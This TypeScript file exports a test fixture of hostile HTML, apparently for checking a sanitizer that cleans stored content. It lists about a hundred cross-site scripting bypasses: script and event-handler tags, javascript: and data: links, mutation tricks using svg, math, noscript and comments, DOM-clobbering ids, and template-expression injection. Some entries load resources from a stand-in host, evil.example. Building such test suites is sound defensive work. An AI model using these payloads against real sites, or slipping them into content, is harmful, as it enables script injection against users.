/**
 * HTML that has been used to get scripts past cleaners, one entry for each way of going about it.
 * `alert(1)` stands for what is meant to run; nothing of it may be left to run in what is stored.
 */
export const HOSTILE_HTML: Readonly<Record<string, string>> = {
  // Straight away
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<ScRiPt src=//evil.example/x></sCrIpT>',
  'a script with a slash in its tag': '<script/src="data:,alert(1)"></script>',
  'a script inside a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'an event handler': '<p onclick="alert(1)">x</p>',
  'an event handler after a slash': '<p/onmouseover=alert(1)>x',
  'an image that fails': '<img src=x onerror=alert(1)>',
  'an image of an allowed host with a handler':
    '<img src="https://images.example.com/a.png" onload="alert(1)">',
  'a quote that ends an attribute': '<img alt="`><img src=x onerror=alert(1)>">',
  'a style element': '<style>@import "//evil.example/x.css";</style>',
  'a style attribute': '<p style="background:url(javascript:alert(1))">x</p>',
  'a frame with a document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object and an embed':
    '<object data="data:text/html,x"></object><embed src="javascript:alert(1)">',
  'a base address': '<base href="https://evil.example/">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'a form':
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  'an input with focus': '<input autofocus onfocus=alert(1)>',
  'details that open': '<details open ontoggle=alert(1)><summary>x</summary>y</details>',
  'a video without a source': '<video><source onerror="alert(1)"></video>',
  'a marquee': '<marquee onstart=alert(1)>x</marquee>',
  'a dialog that is shown':
    '<button popovertarget=x>x</button><div id=x popover onbeforetoggle=alert(1)>y</div>',
  'an element of somebody': '<x-y onfocus=alert(1) tabindex=0 autofocus>z</x-y>',
  'a slot for a component': '<div is="crm-help" slot="x">y</div>',

  // Addresses
  'a javascript link': '<a href="javascript:alert(1)">x</a>',
  'a javascript link in mixed case': '<a href=" JaVaScRiPt:alert(1)">x</a>',
  'a javascript link with a tab': '<a href="java&#9;script:alert(1)">x</a>',
  'a javascript link with a line break': '<a href="java\nscript:alert(1)">x</a>',
  'a javascript link after a control character': '<a href="&#1;javascript:alert(1)">x</a>',
  'a javascript link in references': '<a href="&#x6a;avascript&colon;alert&lpar;1&rpar;">x</a>',
  'a javascript link behind a null': '<a href="java\u0000script:alert(1)">x</a>',
  'a data link': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'a vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'a blob link': '<a href="blob:https://x.example/1">x</a>',
  'a link without a scheme': '<a href="//evil.example">x</a>',
  'an http link': '<a href="http://evil.example/">x</a>',
  'a link that hides its host': '<a href="https://crm.example.com@evil.example/">x</a>',
  'a wiki link that is a script': '<a href="wiki:javascript:alert(1)">x</a>',
  'a portal link that leaves the portal':
    '<a href="portal://evil.example/">x</a><a href="portal:/a/../../b/">y</a>',
  'a mail link with a script': '<a href="mailto:a@b.example&#10;javascript:alert(1)">x</a>',
  'an image from another host': '<img src="https://evil.example/a.png" alt="x">',
  'an image from a host that begins alike':
    '<img src="https://images.example.com.evil.example/a.png">',
  'an image from a host as a name': '<img src="https://images.example.com@evil.example/a.png">',
  'an image that is data': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'images for other screens':
    '<img src=x srcset="https://evil.example/a.png 2x"><picture><source srcset=x></picture>',
  'an address with a backslash': '<a href="https:\\\\evil.example\\@crm.example.com">x</a>',

  // Mutation: harmless when parsed once, not when parsed again
  'style in svg in p': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'style in math': '<math><style><img src=x onerror=alert(1)></style></math>',
  'an attribute that ends a noscript':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'an attribute that ends a title':
    '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  'an attribute that ends a textarea':
    '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'an attribute that ends an xmp': '<xmp><p title="</xmp><img src=x onerror=alert(1)>">x</xmp>',
  'an attribute that ends a noembed': '<noembed><p title="</noembed><img src onerror=alert(1)>">',
  'an attribute that ends a comment': '<p title="--><img src=x onerror=alert(1)>">x</p><!-- ',
  'a form in a form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'mglyph after a table':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  malignmark: '<math><mtext><malignmark><style><img src=x onerror=alert(1)>',
  'annotation-xml as HTML':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  'annotation-xml as nothing':
    '<math><annotation-xml><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  'svg with foreignObject':
    '<svg><foreignObject><p><style></foreignObject></svg><img src=x onerror=alert(1)>',
  'svg with desc and title': '<svg><desc><style></desc><img src=x onerror=alert(1)></style></svg>',
  'svg with a script': '<svg><script>alert&#40;1&#41;</script></svg>',
  'svg with an animation': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'svg that sets an address':
    '<svg><a><set attributeName=href to="javascript:alert(1)"/><text>x</text></a></svg>',
  'svg with use': '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  'character data in svg': '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  'character data outside of svg': '<![CDATA[><img src=x onerror=alert(1)>]]>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'a template in a table': '<table><template><td></template><img src=x onerror=alert(1)>',
  'a shadow root':
    '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
  'an option with a style': '<select><style></select><img src=x onerror=alert(1)></style>',
  'a select with a template':
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  'plain text': '<plaintext><img src=x onerror=alert(1)>',
  'a frameset': '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  'a body with a handler': '<body onload=alert(1)><p>x</p></body>',
  'a document':
    '<!doctype html><html onclick=alert(1)><head><title>x</title></head><body>y</body></html>',
  'a processing instruction': '<?xml version="1.0"?><?php echo 1 ?><p>x</p>',

  // Comments and their ends
  'a comment with a bang': '<!--!><img src=x onerror=alert(1)>--!>',
  'a comment that ends at once': '<!--><img src=x onerror=alert(1)>-->',
  'a conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'a comment that never ends': '<!-- <img src=x onerror=alert(1)>',
  'an end tag with attributes': '</p onclick=alert(1)><p>x</p>',

  // Structure that a second parse would put together differently
  'a link in a link over a table':
    '<a href="https://a.example"><table><tr><td><a href="https://b.example">x</a></td></tr></table></a>',
  'a paragraph in a paragraph over a button': '<p>a<button><p>b</p></button>c</p>',
  'marks that overlap': '<b>1<p>2<i>3</b>4</p>5</i>6',
  'text in a table': '<table>a<b>b<tr>c<td>d</table>',
  'headings in headings': '<h2>a<h3>b</h3>c</h2>',
  'items without a list': '<li>a<li>b<ul>c<li>d',
  'cells without a table': '<td>a</td><tr><th>b</th></tr>',
  'a list in a heading': '<h2><ul><li>a</li></ul></h2>',
  'preformatted text that starts with a line break': '<pre>\n\n\nx</pre>',
  'a return that is written as a reference':
    '<p>a&#13;b&#13;&#10;c</p><img alt="a&#13;b" src="https://images.example.com/a.png">',
  'references that become others': '<p>&amp;lt;script&amp;gt; &amp;amp; &ampamp; &notit;</p>',
  'nulls and odd characters': '<p>\u0000a&#0;b\u0001c\ufeffd\ud800e\udc00f\u200bg\u2028h</p>',
  'marks of search hits': '<p>\ue000x\ue001</p>',

  // Names that a page's own scripts might trip over
  'an id that shadows a property': '<h2 id="getElementById">x</h2><a id="body" name="cookie">y</a>',
  'an id of a prototype':
    '<h2 id="__proto__">x</h2><h2 id="constructor">y</h2><h2 id="constructor">z</h2>',
  'an id that is no word': "<h2 id='\"><img src=x onerror=alert(1)>'>x</h2>",
  'a language that is no word':
    '<pre><code class="language-x onclick language-&quot;><img>">y</code></pre>',
  'a fact that is no word':
    '<data data-fact="a b" value="1">x</data><data data-fact="a" value=\'"><script>\'>y</data>',
  'a template expression': '<p>{{constructor.constructor("alert(1)")()}} &lt;%= alert(1) %&gt;</p>',
  'attributes of a framework':
    '<p v-html="alert(1)" x-init="alert(1)" ng-init="alert(1)" hx-get="/x">y</p>',
};
